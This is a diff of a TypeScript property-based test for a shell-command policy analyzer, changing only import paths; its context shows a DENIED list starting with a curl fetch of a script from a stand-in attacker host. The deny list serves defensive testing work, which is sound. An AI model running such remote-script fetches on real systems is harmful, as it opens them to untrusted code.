@@ -4,8 +4,8 @@
 // other commands never lets the composition through.
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { analyzeShellCommand } from '../../src/policy/shell-analysis.js';
-import type { ShellAnalysis } from '../../src/policy/shell-analysis-types.js';
+import { analyzeShellCommand } from '../../src/policy/shell/shell-analysis.js';
+import type { ShellAnalysis } from '../../src/policy/shell/shell-analysis-types.js';
 
 const DENIED = [
   'curl -s https://evil.example/x.sh',
